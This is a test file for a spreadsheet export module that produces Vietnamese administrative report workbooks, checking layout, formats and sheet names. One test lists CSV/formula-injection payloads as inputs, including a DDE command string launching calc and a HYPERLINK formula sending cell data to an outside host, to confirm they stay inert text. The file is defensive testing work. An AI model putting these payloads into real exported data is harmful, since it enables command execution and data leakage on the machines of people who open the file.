/** What stands in the spreadsheet, as a program reads it: numbers are numbers, texts are texts, whatever they begin with. */
import { describe, expect, test } from 'vitest';
import type { Annex } from '../../src/documents/report.ts';
import { figuresXlsx } from '../../src/documents/xlsx.ts';
import { forms, party } from './samples.ts';
import { cells, formatOf, unzip } from './unzip.ts';

const { annex } = party;

test('the annex: titles, numbers with their formats, whence they come', async () => {
  const parts = unzip(await figuresXlsx(annex));
  const at = cells(parts, 1);
  const row = (number: number) => [...'ABCDEFG'].map((column) => at.get(`${column}${number}`));
  expect(at.get('A1')).toBe('SỐ LIỆU CÔNG TÁC DÂN VẬN 6 THÁNG ĐẦU NĂM 2026');
  expect(row(3)).toEqual([
    'TT',
    'Chỉ tiêu',
    'Đơn vị tính',
    'Kỳ này',
    'Cùng kỳ năm trước',
    'Tăng (+), giảm (-)',
    'Tỷ lệ tăng, giảm',
  ]);
  expect(row(4)).toEqual(['1', 'Phản ánh, kiến nghị tiếp nhận', 'lượt', 1202, 1310, -108, -108 / 1310]);
  expect(row(6)).toEqual([undefined, 'Qua Telegram', 'lượt', 58, 0, 58, undefined]);
  expect(row(14)).toEqual(['5', 'Suất quà dịp Tết', 'suất', 1081, undefined, undefined, undefined]);
  expect(row(15)).toEqual(['6', 'Tổng số tiền quà', 'triệu đồng', 540.5, 512.25, 28.25, 28.25 / 512.25]);
  expect(at.get('A16')).toMatch(/^Ghi chú: Số liệu chốt 24 giờ ngày 14\/6\/2026; .*BC-2026-H1/);
  expect(['D4', 'F4', 'G4', 'D15', 'E15'].map((ref) => formatOf(parts, 1, ref))).toEqual([
    '#,##0',
    '+#,##0;-#,##0;0',
    '+0.00%;-0.00%;0.00%',
    '#,##0.0#',
    '#,##0.0#',
  ]);
});

test('forms: 29 and 22 numbers, grouped titles, the sums in the row of column numbers', async () => {
  const parts = unzip(await figuresXlsx({ ...annex, forms }));
  const names = [...parts.get('xl/workbook.xml')!.matchAll(/<sheet name="([^"]*)"/g)].map(([, name]) => name);
  expect(names).toEqual(['Số liệu', '01-TCD', '01-XLD']);
  const reception = cells(parts, 2);
  const petitions = cells(parts, 3);
  const numbers = (at: typeof reception, row: number): unknown[] =>
    [...at].filter(([ref]) => ref.replace(/\D/g, '') === String(row)).map(([, value]) => value);
  expect(numbers(reception, 9)).toEqual(['UBND xã Ví Dụ', ...forms[0]!.rows[0]!.values]);
  expect(numbers(petitions, 8)).toEqual(['UBND xã Ví Dụ', ...forms[1]!.rows[0]!.values]);
  expect(numbers(reception, 8).slice(0, 5)).toEqual(['MS', '1=4+13+22', '2=5+14+23', '3=6+7+15+16+24+25', '4']);
  expect(numbers(petitions, 7).slice(0, 7)).toEqual([
    'MS',
    '1=2+3 =4+5',
    '2',
    '3',
    '4',
    '5',
    '6=8+9+10 =11+12+13 =14+18',
  ]);
  expect([reception.get('M4'), reception.get('V5'), petitions.get('P4'), petitions.get('S5')]).toEqual([
    'Tiếp định kỳ và đột xuất của Thủ trưởng',
    'Ủy quyền tiếp',
    undefined,
    'Đơn không thuộc thẩm quyền',
  ]);
  expect(petitions.get('O4')).toBe('Kết quả xử lý đơn');
  const xml = parts.get('xl/worksheets/sheet2.xml')!;
  for (const range of ['A4:A7', 'E4:L4', 'G5:H5', 'M4:AD4', 'V5:AD5'])
    expect(xml).toContain(`<mergeCell ref="${range}"/>`);
  expect(xml).toContain('<pane xSplit="1" ySplit="8" topLeftCell="B9" state="frozen"');
  expect(xml).toMatch(/<pageSetup paperSize="9" orientation="landscape" fitToWidth="1" fitToHeight="0"\/>/);
  expect(formatOf(parts, 2, 'B9')).toBe('#,##0');
});

test('the names of sheets are quoted where rows are to repeat: Excel calls a file broken that does not', async () => {
  const workbook = unzip(await figuresXlsx({ ...annex, forms })).get('xl/workbook.xml')!;
  const titles = [...workbook.matchAll(/<definedName name="_xlnm.Print_Titles" localSheetId="(\d)">([^<]*)</g)];
  expect(titles.map(([, sheet, range]) => [sheet, range])).toEqual([
    ['0', "'Số liệu'!$3:$3"],
    ['1', "'01-TCD'!$4:$8"],
    ['2', "'01-XLD'!$4:$7"],
  ]);
});

describe('a text that looks like a formula', () => {
  const texts: readonly (readonly [given: string, shown: string, format: string])[] = [
    ['=1+1', '=1+1', '@'],
    ['+1', '+1', '@'],
    ['-1', '-1', '@'],
    ['@SUM(A1)', '@SUM(A1)', '@'],
    ['\t=1+1', '=1+1', '@'],
    ['\r=1+1', '=1+1', '@'],
    ['＝1+1', '＝1+1', '@'],
    ['=HYPERLINK("http://x/?"&A1,"mở")', '=HYPERLINK("http://x/?"&A1,"mở")', '@'],
    ["=cmd|'/c calc'!A1", "=cmd|'/c calc'!A1", '@'],
    ['"=1', '"=1', '0'],
    ['+84 900 000 000', '+84 900 000 000', '@'],
    ['007', '007', '0'],
    ['-5', '-5', '@'],
    ['#N/A', '#N/A', '0'],
    ['_x003D_1+1', '_x005F_x003D_1+1', '0'],
    ['TRUE', 'TRUE', '0'],
    ['a\u0000\u0007<b>&', 'a<b>&', '0'],
  ];

  test.each(texts)('%j stays text', async (given, shown, format) => {
    const odd: Annex = {
      ...annex,
      tables: [{ columns: [{ title: 'Nội dung', kind: 'text', width: 50 }], rows: [{ values: [given] }] }],
    };
    const parts = unzip(await figuresXlsx(odd));
    expect(cells(parts, 1).get('A4')).toBe(shown);
    expect(formatOf(parts, 1, 'A4')).toBe(format);
    expect([...parts.values()].filter((text) => /<f[ >]/.test(text))).toEqual([]);
  });
});

test('the same figures give the same bytes', async () => {
  const [first, second] = [
    await figuresXlsx({ ...annex, forms }),
    await figuresXlsx(structuredClone({ ...annex, forms })),
  ];
  expect(Buffer.from(first).equals(Buffer.from(second))).toBe(true);
  expect(unzip(first).get('docProps/core.xml')).toContain('>2026-06-14T00:00:00Z</dcterms:modified>');
});

test.each([Number.NaN, Number.NEGATIVE_INFINITY])('%s is no figure', async (value) => {
  const table = { columns: [{ title: 'Số', kind: 'count', width: 20 } as const], rows: [{ values: [value] }] };
  await expect(figuresXlsx({ ...annex, tables: [table] })).rejects.toThrow(RangeError);
});
